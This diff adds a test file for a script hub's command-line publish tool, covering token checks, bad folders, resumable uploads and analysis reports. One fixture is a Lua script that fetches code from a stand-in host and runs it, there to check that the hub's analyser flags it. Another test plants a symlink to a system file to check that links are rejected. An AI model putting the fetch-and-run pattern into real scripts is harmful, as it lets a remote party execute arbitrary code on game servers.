@@ -1,0 +1,208 @@
+import { randomBytes } from 'node:crypto'
+import { once } from 'node:events'
+import { symlink, writeFile } from 'node:fs/promises'
+import { createServer, request } from 'node:http'
+
+import { sql } from 'drizzle-orm'
+import { expect, onTestFinished, test } from 'vitest'
+
+import { analyseAll } from '#test-support/analyses.ts'
+import { createGameServer, publishScript, resourceFiles } from '#test-support/game-server.ts'
+import { startTestApp } from '#test-support/test-app.ts'
+
+const app = await startTestApp()
+const author = await app.createUser('scripts.upload', 'scripts.download')
+const { id } = await publishScript(app, author, 'Pier', resourceFiles('pier'))
+const other = await publishScript(app, author, 'Other', resourceFiles('other'))
+
+async function createToken(
+  scopes: string[],
+  scripts: 'all' | number[] = 'all',
+  name = 'CI',
+): Promise<string> {
+  const draft = { name, scopes, scripts, days: 30 }
+  const { body, status } = await app.request(author, 'POST', '/api/account/tokens', draft)
+  expect(status).toBe(201)
+  return body.token
+}
+const token = await createToken(['publish'])
+
+/** A folder that an author works in. */
+async function workspace({
+  withToken = token,
+  number = '2.0.0',
+  hub = app.url,
+  lua = "print('pier')\n",
+} = {}) {
+  const server = await createGameServer({ token: withToken })
+  const manifest = `fx_version 'cerulean'\ngame 'gta5'\nscripthaven '${id}'\nversion '${number}'\nserver_script 'server.lua'\n`
+  await server.write('pier/fxmanifest.lua', manifest)
+  await server.write('pier/server.lua', lua)
+  return { ...server, publish: (...args: string[]) => server.run('publish', 'pier', '--hub', hub, ...args) }
+}
+
+async function versionsOf(
+  script = id,
+): Promise<{ id: number; number: string; sha256: string; fileSize: number }[]> {
+  return (await app.request(author, 'GET', `/api/scripts/${script}/versions`)).body.versions
+}
+
+/** Analyses as soon as the version is there: this app has no job runner. */
+async function analyseWhenUploaded(number: string): Promise<void> {
+  await expect.poll(async () => (await versionsOf()).map((version) => version.number)).toContain(number)
+  await analyseAll(app)
+}
+
+/** As when its process ends without a reply. */
+async function failAnalysis(number: string): Promise<void> {
+  await expect.poll(async () => (await versionsOf()).map((version) => version.number)).toContain(number)
+  const [version] = await versionsOf()
+  await app.db.execute(sql`
+    update archive_analyses set state = 'failed', failure = 'damaged' where sha256 = ${version?.sha256}`)
+}
+
+test.each<[string, string[], () => Promise<string>, RegExp]>([
+  [
+    'a token without the scope publish',
+    [],
+    () => createToken(['read', 'download']),
+    /needs an access token with the scope publish/,
+  ],
+  ['a token of another script', [], () => createToken(['publish'], [other.id]), /token|not found|Forbidden/i],
+  [
+    'a token that was never one',
+    [],
+    async () => 'x'.repeat(42),
+    /does not accept the token: it has expired or was revoked/,
+  ],
+  ['a script of nobody', ['--script', '999999'], async () => token, /not found/i],
+  [
+    'a number that exists',
+    ['--number', '1.0.0'],
+    async () => token,
+    /already has a version with this number/,
+  ],
+])('%s publishes nothing, and the reason is named', async (_, args, createOne, message) => {
+  const before = await versionsOf()
+  const { publish } = await workspace({ withToken: await createOne() })
+
+  const { code, stderr } = await publish(...args)
+
+  expect(stderr).toMatch(message)
+  expect(code).toBe(4)
+  expect(await versionsOf()).toEqual(before)
+})
+
+test('a token that has expired publishes nothing', async () => {
+  const expired = await createToken(['publish'], 'all', 'expired')
+  await app.db.execute(sql`update sessions set expires_at = now() - interval '1 day' where name = 'expired'`)
+  const before = await versionsOf()
+  const { publish } = await workspace({ withToken: expired })
+
+  expect(await publish()).toMatchObject({
+    code: 4,
+    stderr: expect.stringContaining('does not accept the token: it has expired or was revoked'),
+  })
+  expect(await versionsOf()).toEqual(before)
+})
+
+test('a folder without a manifest, without a script, or with a link is bad usage', async () => {
+  const before = await versionsOf()
+  const work = await workspace()
+  const { publish, run, path } = work
+  await work.write('empty/readme.md', 'x')
+  await work.write('plain/fxmanifest.lua', "fx_version 'cerulean'\n")
+  await symlink('/etc/hostname', path('pier/secret.txt'))
+
+  expect(await run('publish', 'empty', '--hub', app.url)).toMatchObject({
+    code: 2,
+    stderr: expect.stringContaining('has no fxmanifest.lua'),
+  })
+  expect(await run('publish', 'plain', '--hub', app.url)).toMatchObject({
+    code: 2,
+    stderr: expect.stringContaining('Which script is this?'),
+  })
+  expect(await publish()).toMatchObject({ code: 2, stderr: expect.stringContaining('secret.txt is a link') })
+  expect(await publish('--fail-on', 'worst')).toMatchObject({ code: 2 })
+  expect(await versionsOf()).toEqual(before)
+})
+
+test('a version waits for its report, and --fail-on decides the exit code', async () => {
+  const lua = "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n"
+  const work = await workspace({ number: '2.1.0', lua })
+  await work.write('pier/.git/config', 'not a part of the resource')
+
+  const [published] = await Promise.all([
+    work.publish('--fail-on', 'high', '--changelog', 'Loads more.'),
+    analyseWhenUploaded('2.1.0'),
+  ])
+
+  expect(published.code).toBe(1)
+  expect(published.stdout).toContain(`Uploaded version 2.1.0 of script ${id}`)
+  expect(published.stdout).toMatch(/Report: [1-9]\d* high[^]*pier\/server\.lua:\d/)
+  const [version] = await versionsOf()
+  expect(version).toMatchObject({ number: '2.1.0', changelog: 'Loads more.' })
+  const { body } = await app.request(author, 'GET', `/api/versions/${version?.id}/files`)
+  expect(JSON.stringify(body)).not.toContain('.git')
+})
+
+test('an archive that the hub cannot read ends with its reason', async () => {
+  const { publish } = await workspace({ number: '2.2.0' })
+  const [published] = await Promise.all([publish(), failAnalysis('2.2.0')])
+
+  expect(published).toMatchObject({
+    code: 4,
+    stderr: expect.stringContaining('The hub cannot read the archive'),
+  })
+})
+
+/** Between the command line and the hub; the first upload breaks after some bytes. */
+async function startFragileProxy() {
+  const uploads: { method: string; offset: string | undefined; token: string | undefined }[] = []
+  let breaks = 1
+  const proxy = createServer((incoming, outgoing) => {
+    const { method = 'GET', url = '', headers } = incoming
+    const isUpload = method === 'PATCH'
+    if (method === 'PATCH' || method === 'HEAD')
+      uploads.push({ method, offset: String(headers['upload-offset']), token: headers.authorization })
+    const target = request(new URL(url, app.url), { method, headers }, (reply) => {
+      outgoing.writeHead(reply.statusCode ?? 500, reply.headers)
+      reply.pipe(outgoing)
+    })
+    target.on('error', () => outgoing.destroy())
+    let sent = 0
+    incoming.on('data', (chunk: Buffer) => {
+      sent += chunk.length
+      target.write(chunk)
+      if (!isUpload || breaks === 0 || sent < 2_000_000) return
+      breaks = 0
+      target.destroy()
+      incoming.destroy()
+    })
+    incoming.on('end', () => target.end())
+  })
+  await once(proxy.listen(0, '127.0.0.1'), 'listening')
+  onTestFinished(() => {
+    proxy.closeAllConnections()
+    proxy.close()
+  })
+  const address = proxy.address()
+  return { uploads, url: `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}` }
+}
+
+test('a large upload that breaks continues where the hub stopped, and its URL gets no token', async () => {
+  const { uploads, url } = await startFragileProxy()
+  const { publish, path } = await workspace({ number: '3.0.0', hub: url })
+  await writeFile(path('pier/model.ytd'), randomBytes(6 * 1024 ** 2))
+
+  const [published] = await Promise.all([publish(), analyseWhenUploaded('3.0.0')])
+
+  expect([published.code, published.stderr]).toEqual([0, ''])
+  const offsets = uploads.filter(({ method }) => method === 'PATCH').map(({ offset }) => Number(offset))
+  expect(offsets).toEqual([0, expect.any(Number)])
+  expect(offsets[1]).toBeGreaterThan(0)
+  expect(uploads.every(({ token: sent }) => sent === undefined)).toBe(true)
+  const [version] = await versionsOf()
+  expect(version).toMatchObject({ number: '3.0.0' })
+  expect(version?.fileSize).toBeGreaterThan(6 * 1024 ** 2)
+})
